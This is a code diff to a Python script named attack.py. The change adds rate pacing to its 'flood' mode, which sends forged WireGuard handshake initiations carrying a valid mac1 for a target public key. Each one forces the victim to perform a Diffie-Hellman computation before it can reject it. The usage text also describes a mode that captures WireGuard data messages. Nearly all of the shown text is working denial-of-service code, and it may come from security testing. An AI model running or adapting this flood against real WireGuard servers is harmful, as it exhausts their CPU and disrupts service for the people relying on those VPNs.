@@ -7,12 +7,14 @@ could. Usage:
                                                 from ports SPORT, SPORT+1, ...)
   attack.py capture IFACE SRC DPORT             wait for one WireGuard data message from SRC
                                                 to port DPORT on IFACE; print "SPORT HEX"
-  attack.py flood DST DPORT PUBKEY SECONDS      send WireGuard handshake initiations to DST as
-                                                fast as possible for SECONDS: correct mac1 for
-                                                the base64 public key PUBKEY, random ephemeral,
-                                                static and timestamp (so the victim does a
-                                                Diffie-Hellman before it can refuse them), no
-                                                mac2; print "SENT COOKIE_REPLIES" every second
+  attack.py flood DST DPORT PUBKEY SECONDS [RATE]
+                                                send WireGuard handshake initiations to DST for
+                                                SECONDS, RATE a second (as fast as possible
+                                                without RATE): correct mac1 for the base64
+                                                public key PUBKEY, random ephemeral, static and
+                                                timestamp (so the victim does a Diffie-Hellman
+                                                before it can refuse them), no mac2; print
+                                                "SENT COOKIE_REPLIES" (totals) every second
 """
 import base64
 import hashlib
@@ -72,19 +74,27 @@ def initiation(mac1_key):
     return body + mac1 + bytes(16)
 
 
-def flood(dst, dport, pubkey, seconds):
+def flood(dst, dport, pubkey, seconds, rate=None):
     mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(pubkey)).digest()
     messages = [initiation(mac1_key) for _ in range(512)]
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.setblocking(False)
     sent = cookies = 0
-    deadline = time.monotonic() + seconds
-    report = time.monotonic() + 1
-    while time.monotonic() < deadline:
-        if time.monotonic() >= report:
+    start = time.monotonic()
+    deadline = start + seconds
+    report = start + 1
+    while True:
+        now = time.monotonic()
+        if now >= deadline:
+            break
+        if now >= report:
             print(sent, cookies, flush=True)
             report += 1
-        for m in messages[sent % 512:] [:64]:
+        # Paced: catch up with RATE * elapsed, at most 64 at a time.
+        batch = 64 if rate is None else min(64, int(rate * (now - start)) - sent)
+        if batch <= 0:
+            time.sleep(0.001)
+        for m in messages[sent % 512:][:max(batch, 0)]:
             try:
                 s.sendto(m, (dst, dport))
                 sent += 1
@@ -113,7 +123,8 @@ def main():
         print(sport, payload.hex(), flush=True)
     elif mode == "flood":
         dst, dport, pubkey, seconds = sys.argv[2:6]
-        flood(dst, int(dport), pubkey, float(seconds))
+        rate = float(sys.argv[6]) if len(sys.argv) > 6 else None
+        flood(dst, int(dport), pubkey, float(seconds), rate)
 
 
 if __name__ == "__main__":
